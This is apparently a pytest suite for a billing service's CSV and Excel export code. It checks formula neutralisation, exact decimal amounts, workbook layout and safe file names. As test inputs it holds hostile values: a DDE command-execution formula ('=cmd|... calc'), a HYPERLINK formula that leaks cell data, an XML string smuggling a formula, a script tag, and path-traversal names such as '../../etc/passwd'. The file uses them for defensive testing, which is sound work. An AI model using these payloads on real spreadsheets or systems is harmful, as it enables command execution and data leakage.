"""CSV and XLSX files: what goes in comes out, no text runs, no amount changes."""

import csv
import hashlib
import io
import re
import string
import zipfile
from collections.abc import Iterable, Iterator, Sequence
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal
from itertools import repeat, takewhile

import pyarrow as pa
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

from chargeback.errors import Problem
from chargeback.files.cells import neutralise
from chargeback.files.csv_file import FileDigest, write_csv, write_csv_batches
from chargeback.files.names import safe_file_name
from chargeback.files.workbook import SHEET_ROWS, Sheet, TooManyRows, write_workbook

CREATED = datetime(2026, 5, 3, 6, 30, tzinfo=UTC)
FORMULA_STARTS = "=+-@\t\r\n\0＝＋－＠"  # noqa: RUF001 - the full-width forms are the point
FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?x="&A1,"open")',
    "@SUM(A1)",
    *(start + "1" for start in FORMULA_STARTS),
]
HARMLESS = [
    "tenant-a",
    'say "hello", twice',
    "two\nlines",
    "two\r\nlines",
    "a,b;c\td",
    "'quoted'",
    " =1+1",
    "<script>alert(1)</script>",
    "&amp; ]]>",
    "Zürich",
    "顧客",
    "\u202eright to left",
    "مستأجر",
    "👩\u200d💻",
    "0123",
    "1E5",
    "  padded  ",
    "_x0041_",
]
# Text that xlsxwriter would take for XML of its own: a cell of a formula smuggled into a tag.
SMUGGLED = '<r><t>x</t></r></is></c><c r="B2"><f>1+1</f><v>2</v></c><c r="C2"><is><r></r>'

text_cells = st.text(max_size=30)
cents = st.integers(-(10**15) + 1, 10**15 - 1).map(lambda units: Decimal(units).scaleb(-2))


def csv_bytes(columns: Sequence[str], rows: Iterable[Sequence[object]]) -> bytes:
    out = io.BytesIO()
    write_csv(out, columns, rows)
    return out.getvalue()


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True))


def csv_cell(value: object) -> str:
    header, row = read_csv(csv_bytes(["value", "end"], [[value, "end"]]))
    assert (header, row[1]) == (["value", "end"], "end")
    return row[0]


def sheet_of(
    rows: Iterable[Sequence[object]],
    columns: Sequence[str] = ("value",),
    *,
    money: Sequence[str] = (),
    total: bool = False,
    titles: Sequence[str] = (),
) -> Sheet:
    return Sheet("Sheet", titles, columns, rows, money, total)


def workbook_bytes(*sheets: Sheet) -> bytes:
    out = io.BytesIO()
    write_workbook(out, sheets, CREATED)
    return out.getvalue()


def opened(sheet: Sheet) -> Worksheet:
    return load_workbook(io.BytesIO(workbook_bytes(sheet)))[sheet.name]


def cells(worksheet: Worksheet) -> Iterator[Cell]:
    return (cell for row in worksheet.iter_rows() for cell in row if isinstance(cell, Cell))


def only_cell(value: object, *, money: bool = False) -> Cell:
    cell = opened(sheet_of([[value]], money=["value"] if money else []))["A2"]
    assert isinstance(cell, Cell)
    return cell


def shown_text(cell: Cell) -> str:
    """What Excel shows: _xHHHH_ is a character (ECMA-376, ST_Xstring), which openpyxl ignores."""
    return re.sub("_x([0-9A-F]{4})_", lambda code: chr(int(code[1], 16)), str(cell.value or ""))


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_would_run_gets_an_apostrophe(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["", *HARMLESS])
def test_other_text_stays(text: str) -> None:
    assert neutralise(text) == text


@given(st.text())
def test_nothing_neutralised_begins_like_a_formula(text: str) -> None:
    safe = neutralise(text)
    assert safe == "" or safe[0] not in FORMULA_STARTS
    assert neutralise(safe) == safe


def test_csv_is_rfc_4180_with_a_byte_order_mark() -> None:
    written = csv_bytes(["bill_to", "total"], [['a "b", c', Decimal("1.50")], ["x\ny", Decimal(2)]])
    assert written == (b'\xef\xbb\xbfbill_to,total\r\n"a ""b"", c",1.50\r\n"x\ny",2\r\n')


@pytest.mark.parametrize("text", [*FORMULAS, *HARMLESS, SMUGGLED])
def test_hostile_text_comes_back_from_csv(text: str) -> None:
    assert csv_cell(text) == neutralise(text)


@settings(deadline=None)
@given(st.lists(st.lists(text_cells, min_size=2, max_size=2), max_size=5))
def test_any_text_comes_back_from_csv(rows: list[list[str]]) -> None:
    read = read_csv(csv_bytes(["left", "right"], rows))
    assert read == [["left", "right"], *([neutralise(text) for text in row] for row in rows)]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (Decimal("-1234.50"), "-1234.50"),
        (Decimal("1E-12"), "0.000000000001"),
        (Decimal("1E+3"), "1000"),
        (Decimal("-0"), "0"),
        (Decimal("-0.00"), "0.00"),
        (Decimal("12345678901234567890.123456789012"), "12345678901234567890.123456789012"),
        (-7, "-7"),
        (True, "yes"),
        (False, "no"),
        (date(2026, 5, 1), "2026-05-01"),
        (CREATED, "2026-05-03T06:30:00+00:00"),
        ("", ""),
        (None, ""),
    ],
)
def test_values_are_written_plainly(value: object, written: str) -> None:
    assert csv_cell(value) == written


@given(st.decimals(allow_nan=False, allow_infinity=False, min_value=-(10**20), max_value=10**20))
def test_any_amount_comes_back_from_csv_exactly(amount: Decimal) -> None:
    written = csv_cell(amount)
    assert re.fullmatch(r"-?\d+(\.\d+)?", written)
    assert Decimal(written) == amount


def test_the_header_is_neutralised_too() -> None:
    assert read_csv(csv_bytes(["=1+1"], [])) == [["'=1+1"]]


def test_the_digest_is_of_the_bytes_written() -> None:
    out = io.BytesIO()
    digest = write_csv(out, ["tenant"], iter([["Zürich"], ["b"]]))
    data = out.getvalue()
    assert digest == FileDigest(2, hashlib.sha256(data).hexdigest(), len(data))


def test_rows_are_written_as_they_come() -> None:
    out = io.BytesIO()

    def rows() -> Iterator[list[str]]:
        yield ["first"]
        assert b"first\r\n" in out.getvalue()
        yield ["second"]

    assert write_csv(out, ["name"], rows()).rows == 2


KINDS = pa.schema(
    [
        ("text", pa.string()),
        ("cost", pa.decimal128(38, 12)),
        ("tokens", pa.decimal128(38, 0)),
        ("lines", pa.int64()),
        ("day", pa.date32()),
        ("known", pa.bool_()),
    ]
)
exact = st.integers(-(10**38) + 1, 10**38 - 1) | st.integers(-1000, 1000)
many_rows = st.lists(
    st.tuples(
        st.none() | st.sampled_from([*FORMULAS, *HARMLESS]) | text_cells,
        st.none() | exact.map(lambda units: Decimal(f"{units}E-12")),
        st.none() | exact.map(Decimal),
        st.none() | st.integers(-(2**63), 2**63 - 1),
        st.none() | st.dates(),
        st.none() | st.booleans(),
    ),
    max_size=9,
)


@settings(deadline=None)
@example([('é,"\r\n', Decimal("-1E-12"), Decimal("-0"), 0, date(1, 1, 1), False)] * 5)
@given(many_rows)
def test_rows_in_batches_are_written_as_rows_one_by_one_are(rows: list[tuple[object, ...]]) -> None:
    columns = dict(zip(KINDS.names, zip(*rows, strict=True) if rows else repeat(()), strict=False))
    table = pa.table({name: list(cells) for name, cells in columns.items()}, KINDS)
    one_by_one, together = io.BytesIO(), io.BytesIO()
    digest = write_csv(one_by_one, KINDS.names, rows)
    # Batches of four: the second and third begin within the memory of the first.
    assert write_csv_batches(together, KINDS.names, table.to_batches(4)) == digest
    assert together.getvalue() == one_by_one.getvalue()


def test_a_float_in_a_batch_is_refused() -> None:
    batch = pa.record_batch({"name": ["a"], "cost": [1.5]})
    with pytest.raises(TypeError, match="float"):
        write_csv_batches(io.BytesIO(), ["name", "cost"], [batch])


@pytest.mark.parametrize("value", [1.5, b"bytes", ["list"], object()])
def test_a_value_of_another_type_is_refused(value: object) -> None:
    with pytest.raises(TypeError, match=type(value).__name__):
        csv_cell(value)
    with pytest.raises(TypeError, match=type(value).__name__):
        only_cell(value)


@pytest.mark.parametrize("amount", ["NaN", "Infinity"])
def test_an_amount_that_is_not_finite_is_refused(amount: str) -> None:
    with pytest.raises(ValueError, match="finite"):
        csv_cell(Decimal(amount))
    with pytest.raises(ValueError, match="finite"):
        only_cell(Decimal(amount))


@pytest.mark.parametrize("row", [["a"], ["a", "b", "c"]])
def test_a_row_of_another_length_is_refused(row: list[str]) -> None:
    with pytest.raises(ValueError, match="the header 2"):
        csv_bytes(["left", "right"], [row])
    with pytest.raises(ValueError, match="the header 2"):
        workbook_bytes(sheet_of([row], ["left", "right"]))


@pytest.mark.parametrize("text", [*FORMULAS, *HARMLESS])
def test_hostile_text_is_text_in_a_workbook(text: str) -> None:
    cell = only_cell(text)
    assert shown_text(cell) == text
    assert cell.data_type == "s"
    assert cell.quotePrefix == (text in FORMULAS)


@pytest.mark.parametrize(
    "text", ["<r><t>x</t></r>", "<r></r>", SMUGGLED, f"<r>{'x' * 32_760}</r>y"]
)
def test_text_like_rich_text_stays_one_cell(text: str) -> None:
    sheet = sheet_of([[text, "beside"]], [text, "name"], titles=[text])
    worksheet = opened(sheet)
    longest = 32_767
    wanted = ("'" + text)[:longest]
    values = [cell.value for cell in cells(worksheet) if cell.value]
    assert values == [wanted, wanted, "name", wanted, "beside"]
    assert all(cell.data_type != "f" for cell in cells(worksheet))


@settings(max_examples=60, deadline=None)
@example(rows=[["=1+1", "{=1+1}"], ["http://example.com", "mailto:a@example.com"]])
@example(rows=[["<r><f>1</f></r>", "0.5"], ["TRUE", "#N/A"]])
@given(rows=st.lists(st.lists(text_cells, min_size=2, max_size=2), max_size=5))
def test_any_text_comes_back_from_a_workbook(rows: list[list[str]]) -> None:
    worksheet = opened(sheet_of(rows, ["left", "right"]))
    found = list(worksheet.iter_rows(min_row=2))
    # Rows of empty cells at the end of a sheet are not in its file.
    kept = len(rows) - sum(1 for _ in takewhile(lambda row: not any(row), reversed(rows)))
    assert len(found) >= kept
    for row, read in zip(rows[: len(found)], found, strict=True):
        for text, cell in zip(row, read, strict=True):
            assert isinstance(cell, Cell)
            assert shown_text(cell) in {text, "'" + text}
            assert cell.hyperlink is None
    assert all(cell.data_type in {"s", "n"} for cell in cells(worksheet))
    assert all(cell.value is None for cell in cells(worksheet) if cell.data_type == "n")


@settings(max_examples=60, deadline=None)
@given(st.lists(cents, min_size=1, max_size=10))
def test_a_workbook_shows_the_cents_of_the_csv(amounts: list[Decimal]) -> None:
    rows = [[amount] for amount in amounts]
    worksheet = opened(sheet_of(rows, money=["value"]))
    shown = [f"{cell.value:.2f}" for cell in cells(worksheet) if cell.row > 1]
    assert shown == [row[0] for row in read_csv(csv_bytes(["value"], rows))[1:]]


def test_amounts_have_the_format_of_their_precision() -> None:
    statement, detail = '#,##0.00;[Red]-#,##0.00;"–"', "#,##0.00########"
    assert only_cell(Decimal("-0.10"), money=True).number_format == statement
    assert only_cell(Decimal("0.123456789012"), money=True).number_format == detail
    assert only_cell(Decimal("0.10")).number_format == detail
    assert only_cell(1_500).number_format == "#,##0"


def test_a_long_amount_is_still_a_number() -> None:
    cell = only_cell(Decimal("1234567890.123456789012"))
    assert cell.data_type == "n"
    assert cell.value == pytest.approx(1234567890.123456789012, rel=1e-15)
    assert only_cell(Decimal("-0.00")).value == 0


def test_dates_and_times_are_dates_in_utc() -> None:
    assert only_cell(date(2026, 5, 1)).value == datetime(2026, 5, 1)
    assert only_cell(date(2026, 5, 1)).is_date
    tokyo = timezone(timedelta(hours=9))
    assert only_cell(CREATED.astimezone(tokyo)).value == CREATED.replace(tzinfo=None)


def test_yes_no_and_nothing() -> None:
    assert only_cell(True).value == "yes"
    assert only_cell(False).value == "no"
    worksheet = opened(sheet_of([["", None, "end"]], ["a", "b", "c"]))
    assert [cell.value for cell in worksheet[2]] == [None, None, "end"]


def test_titles_header_and_total_are_where_a_reader_looks() -> None:
    rows = [["a", Decimal("0.10")], ["b", Decimal("-0.30")]]
    worksheet = opened(
        sheet_of(rows, ["bill_to", "total"], money=["total"], total=True, titles=["Title", "Note"])
    )
    values = [[cell.value for cell in row] for row in worksheet.iter_rows()]
    assert values == [
        ["Title", None],
        ["Note", None],
        [None, None],
        ["bill_to", "total"],
        ["a", 0.1],
        ["b", -0.3],
        ["Total", -0.2],
    ]
    assert worksheet.freeze_panes == "A5"
    assert worksheet.auto_filter.ref == "A4:B6"
    assert (worksheet["B7"].data_type, worksheet["B7"].font.b) == ("n", True)


def test_columns_are_as_wide_as_what_they_show_within_reason() -> None:
    amount = Decimal("-1234567890123.45")
    rows: list[list[object]] = [["x" * 500, "", amount]] * 2
    worksheet = opened(sheet_of(rows, ["long", "short", "m"], money=["m"], total=True))
    long, short, money = (worksheet.column_dimensions[name].width for name in "ABC")
    assert len(f"{amount * 2:,}") < money < long < 100
    assert len("short") < short < money


def test_a_sheet_prints_across_one_page_with_its_title_and_header_on_each() -> None:
    sheet = sheet_of([["a"]] * 200, titles=["R&D &F " + "x" * 300, "Note"])
    with zipfile.ZipFile(io.BytesIO(workbook_bytes(sheet))) as archive:
        written = archive.read("xl/worksheets/sheet1.xml").decode()
    # Paper 9 is A4; one page across is the default, 0 down means any number (ECMA-376, 18.3.1.63).
    assert '<pageSetup paperSize="9" fitToHeight="0" orientation="landscape"/>' in written
    assert "<pageSetUpPr fitToPage=" in written
    # A single & begins a code of Excel's, such as &F, the file's name.
    assert "<oddHeader>&amp;LR&amp;&amp;D &amp;&amp;F xxx" in written
    assert "&amp;RPage &amp;P of &amp;N</oddFooter>" in written
    assert opened(sheet).print_title_rows == "$4:$4"


def test_equal_sheets_give_equal_bytes_at_any_time() -> None:
    def book() -> bytes:
        rows: list[list[object]] = [["a", Decimal("0.10"), date(2026, 5, 1), "=1"]]
        return workbook_bytes(sheet_of(rows, list("abcd"), money=["b"], total=True))

    first = book()
    assert book() == first
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        assert {part.date_time for part in archive.infolist()} == {(1980, 1, 31, 0, 0, 0)}
        core = archive.read("docProps/core.xml").decode()
    assert set(re.findall(r"\d{4}-\d\d-\d\dT[\d:]+Z", core)) == {"2026-05-03T06:30:00Z"}


def test_a_workbook_takes_several_sheets() -> None:
    sheets = [Sheet(name, [], ["value"], [[name]], [], False) for name in ("Statement", "Detail")]
    workbook = load_workbook(io.BytesIO(workbook_bytes(*sheets)))
    assert workbook.sheetnames == ["Statement", "Detail"]
    assert all(sheet["A2"].value == sheet.title for sheet in workbook)


@pytest.mark.parametrize(
    ("rows", "total"), [(SHEET_ROWS, False), (SHEET_ROWS - 1, True)], ids=["rows", "total row"]
)
def test_one_row_too_many_for_excel_is_refused_whole(rows: int, total: bool) -> None:
    out = io.BytesIO()
    sheet = sheet_of(repeat([""], rows), total=total)
    with pytest.raises(TooManyRows, match="Use the CSV") as refused:
        write_workbook(out, [sheet], CREATED)
    assert isinstance(refused.value, Problem)
    assert out.getvalue() == b""


def test_as_many_rows_as_excel_holds_are_written() -> None:
    last = opened(sheet_of(repeat([""], SHEET_ROWS - 1))).auto_filter.ref
    assert last == f"A1:A{SHEET_ROWS}"


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("tenant", "tenant"),
        ("Tenant A.csv", "Tenant-A.csv"),
        ("../../etc/passwd", "etc-passwd"),
        ("..", "unnamed"),
        (".", "unnamed"),
        ("", "unnamed"),
        ("顧客", "unnamed"),
        (".hidden", "hidden"),
        ("-rf", "rf"),
        ("a\0b\r\nc", "a-b-c"),
        ("C:\\Windows\\x", "C-Windows-x"),
        ("_a_", "_a_"),
        ("x" * 79 + ".y", "x" * 79),
    ],
)
def test_file_names_hold_no_surprise(text: str, name: str) -> None:
    assert safe_file_name(text) == name


@given(st.text(alphabet=st.one_of(st.characters(), st.sampled_from("./\\-_ ab")), max_size=200))
def test_any_text_makes_a_safe_file_name(text: str) -> None:
    name = safe_file_name(text)
    assert 1 <= len(name) <= 80
    assert set(name) <= set(string.ascii_letters + string.digits + "._-")
    assert name[0] not in ".-"
    assert name[-1] not in ".-"
    assert safe_file_name(name) == name
